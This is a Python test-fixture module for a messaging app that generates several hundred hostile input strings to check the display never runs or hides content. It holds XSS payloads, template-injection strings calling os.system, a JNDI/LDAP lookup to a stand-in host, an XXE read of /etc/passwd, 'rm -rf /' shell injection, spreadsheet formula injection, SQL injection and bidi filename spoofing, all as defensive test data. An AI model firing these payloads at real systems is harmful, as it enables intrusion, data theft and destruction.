"""Texts that want to be more than text. Whatever shows them shows them; nothing here may ever run or hide a thing.

`TEXTS` has at least 300, all different, in families so that a failure says what kind got through.
"""

from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Iterator

MARK = "recado_broken"
RUN = f"window.{MARK}=1"
LONGEST = 4096
# What a bubble turns into elements instead of showing it.
MARKS = str.maketrans("", "", "*_~`")


def _elements() -> Iterator[str]:
    yield f"<script>{RUN}</script>"
    yield f"<ScRiPt >{RUN}</sCrIpT >"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script src=data:text/javascript,{RUN}></script>"
    yield f"<script type=module>{RUN}</script>"
    for name in ("img", "image", "audio", "video", "input type=image", "embed"):
        yield f"<{name} src=x onerror={RUN}>"
    for name, event in (
        ("svg", "onload"),
        ("body", "onload"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("style", "onload"),
        ("div style=animation-name:x", "onanimationstart"),
        ("b", "onclick"),
        ("p id=main hx-on:load", "onmouseenter"),
    ):
        yield f"<{name} {event}='{RUN}'>oi"
    for name in ("iframe srcdoc", "iframe src", "object data", "embed src", "base href", "frame src"):
        yield f'<{name}="javascript:{RUN}"></{name.split()[0]}>'
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"
    yield f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    yield f"<template><img src=x onerror={RUN}></template>"
    for close in ("title", "textarea", "style", "script", "select", "table", "li></ol", "bdi></div", "main"):
        yield f"</{close}><img src=x onerror={RUN}>"
    yield f"<!--><img src=x onerror={RUN}>-->"
    yield f"<![CDATA[<img src=x onerror={RUN}>]]>"
    yield "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"
    yield "<plaintext>tudo depois disto"
    yield "<style>*{display:none!important}</style>"
    yield "<link rel=stylesheet href=//exemplo.example/x.css>"
    yield "<meta http-equiv=refresh content='0;url=//exemplo.example'>"
    yield "<form action=//exemplo.example><button>Entrar de novo</button></form>"
    yield "<a href='https://exemplo.example' style='position:fixed;inset:0'>x</a>"
    yield "<dialog open><h1>Sessão expirada</h1></dialog>"
    yield "<div hx-get='/painel/sair' hx-trigger='load'></div>"
    yield "<div id=problemas data-fresh=problemas data-live=messages data-live-url=//exemplo.example>"


def _breakouts() -> Iterator[str]:
    for quote in ('"', "'", "`", "", "&quot;", "&#39;", "\\'", '\\"', "%22", "\u2019"):
        yield f"{quote} onmouseover={quote}{RUN}{quote} x={quote}"
        yield f"{quote}><svg/onload={RUN}>"
        yield f"{quote});{RUN};//"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,"):
        yield f"{scheme}<script>{RUN}</script>"
        yield f"https://exemplo.example/{scheme}{RUN}"
    yield f'https://exemplo.example/"onmouseover="{RUN}'
    yield f"https://exemplo.example/'onclick='{RUN}"
    yield f"http://javascript:{RUN}@exemplo.example"
    yield "&lt;b&gt;não é negrito&lt;/b&gt; &#60;script&#62; &amp;amp; &nbsp; &zwj;"


def _templates() -> Iterator[str]:
    yield "{{ 7*7 }}"
    yield "{{7*'7'}} {{config}} {{self}}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield f"{{{{constructor.constructor('{RUN}')()}}}}"
    yield "{{ csrf_field() }} {{ visitor.session }}"
    yield "{{1}} {{nome}} {{ 2 }}"
    yield "{% raw %}{{ x }}{% endraw %}"
    yield "{% include 'shell/base.html' %}"
    yield "{% for x in range(10**9) %}x{% endfor %}"
    yield "{% import os %}{{ os.system('id') }}"
    yield "{# comentário #} depois"
    yield f"${{{RUN}}} ${{7*7}}"
    yield f"`${{{RUN}}}`"
    yield f"<%= {RUN} %> <% x %>"
    yield "#{7*7} *{7*7} @{7*7} ~{x}"
    yield "[[7*7]] [(7*7)] [[${7*7}]]"
    yield "%(n)s %(verb)s %s %d %n %%"
    yield "{} {0} {name!r} {0.__class__}"
    yield "$(id) `id` ; rm -rf / | cat"
    yield "${jndi:ldap://exemplo.example/a}"
    yield "[link](javascript:alert(1)) ![x](x)"


def _directions() -> Iterator[str]:
    for one in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        yield f"fatura{one}fdp.exe"
        yield f"{one}Marina{one} pagou{one}"
    yield "مرحبا <b>بك</b> 123 abc"
    yield 'שלום "עולם" https://exemplo.example/שלום'
    yield "\u202e" * 100 + "abc"
    yield "\u2067" * 60 + "aberto e nunca fechado"


def _invisible() -> Iterator[str]:
    ones = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u3164\ufe0f\u180e\u2061\u2064\u00a0\u2003\u3000"
    for one in ones:
        yield f"a{one}b{one * 3}c"
    yield "\u200b" * 200 + "fim"
    yield "".join(chr(0xE0000 + ord(one)) for one in "<script>") + " etiquetas"
    yield "\ufff9anotado\ufffaem cima\ufffb"
    yield "\ufffd\ufffe\uffff\ufdd0 não são letras"
    yield "\ue000\uf8ff\U000f0000 só nossas"


def _marks() -> Iterator[str]:
    for length in (1, 8, 40, 200, 1000):
        yield "Z" + "\u0351" * length + "algo" + "\u0489" * length
    yield "e\u0301 é é o\u0302 ô"
    yield "".join(f"{one}\u035b\u0353\u0489" for one in "tudo torto")
    yield "க்ஷ்ர நி ด้้้้้็็็็็้้้้้ ᄀᄀᄀ각ᆨᆨ"
    yield "﷽" * 60
    yield "𒐫" * 80
    yield "ﬁ ﬂ ㍿ ⅷ ℌ 𝕳𝖆𝖈𝖐"


def _emoji() -> Iterator[str]:
    family = "👩\u200d👩\u200d👧\u200d👦"
    yield family
    yield family * 50
    yield "👍🏽 👍🏿 🖐🏻 🤷🏾\u200d♀️"
    yield "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇧🇷 🇧 🇷🇧🇷"
    yield "1️⃣#️⃣*️⃣ ❤️\u200d🔥 🏳️\u200d🌈"
    yield "\u200d".join("😀😁😂🤣😃😄" * 12)
    yield "❤\ufe0e ❤\ufe0f ☺\ufe0e ☺\ufe0f"
    yield "🧑🏻\u200d❤️\u200d💋\u200d🧑🏿" * 10
    yield "\U0001f3fb" * 30
    yield "🫠🫡🪬🫎 novos"


def _long() -> Iterator[str]:
    for unit in (
        "a",
        "palavra ",
        "<",
        "&amp;",
        "*",
        "_x_ ",
        "`",
        "\u0301",
        "漢",
        "😀",
        "https://exemplo.example/",
        "\n",
        "ب",
        "{{",
        "-",
        "Linha com fim.\n",
    ):
        yield ("início" + unit * LONGEST)[: LONGEST - 1] + "."


def _controls() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        if chr(code) != "\n":
            yield f"antes{chr(code)}depois de {code:02x}"
    yield "linha\u2028outra\u2029parágrafo"
    yield "a\r\nb\rc\n\nd"
    yield "\x1b[31mvermelho\x1b[0m\x07"
    yield "\x00" * 20 + "fim"
    yield "meio \ud83d par e \udc00 outro"


def _formulas() -> Iterator[str]:
    yield "=1+1"
    yield "=cmd|'/c calc'!A1"
    yield '=HYPERLINK("https://exemplo.example";"clique")'
    yield "+5520955500111"
    yield "-2+3+cmd|' /C calc'!A0"
    yield "@SUM(1+1)*cmd|' /C calc'!A0"
    yield "\t=1+1"
    yield ' =1+1;"x",y'
    yield '"=1+1"'
    yield 'a,b;c"d"\ne'
    yield "＝1+1"
    yield "%0A=1+1"


def _queries() -> Iterator[str]:
    yield "' or '1'='1"
    yield "'; drop table message; --"
    yield '"; delete from contact; --'
    yield "1); select pg_sleep(10); --"
    yield "\\'; truncate outbox; --"
    yield "$$; select version(); $$"
    yield "%' union select null,null --"
    yield "a%b_c\\d like '%'"
    yield "@tenant_id :id $1 ?"
    yield "NULL null None undefined NaN true [object Object]"
    yield '{"$ne": null} {"__proto__": {"x": 1}}'
    yield "../../../etc/passwd ..\\..\\windows"
    yield "con.txt. nul aux.pdf::$DATA"
    yield "constructor __proto__ toString hasOwnProperty"


FAMILIES = {
    "elements": tuple(_elements()),
    "breakouts": tuple(_breakouts()),
    "templates": tuple(_templates()),
    "directions": tuple(_directions()),
    "invisible": tuple(_invisible()),
    "marks": tuple(_marks()),
    "emoji": tuple(_emoji()),
    "long": tuple(_long()),
    "controls": tuple(_controls()),
    "formulas": tuple(_formulas()),
    "queries": tuple(_queries()),
}
TEXTS = tuple(itertools.chain.from_iterable(FAMILIES.values()))
# Some of each family, for places where one text costs a whole request or page.
FEW = tuple(
    itertools.chain.from_iterable(texts[:: max(1, len(texts) // 5)][:5] for texts in FAMILIES.values())
)


def stored(text: str) -> str:
    """What comes in is kept so: PostgreSQL's text knows no NUL and no half of a pair."""
    return "".join("\ufffd" if one == "\x00" or "\ud800" <= one <= "\udfff" else one for one in text)


def sendable(text: str) -> bool:
    """What goes out must be storable as it is: the API says no to the rest."""
    return stored(text) == text


def drawn(text: str) -> str:
    """What a screen shows of it: controls and what turns the direction are visible as U+FFFD, lines stay."""
    return "".join(map(_drawn, stored(text)))


def _drawn(one: str) -> str:
    if one in "\n\t":
        return one
    turns = "\u202a" <= one <= "\u202e" or "\u2066" <= one <= "\u2069"
    return "\ufffd" if turns or unicodedata.category(one) in ("Cc", "Zl", "Zp") else one


def line(text: str) -> str:
    """The same in one line."""
    return " ".join(drawn(text).split())
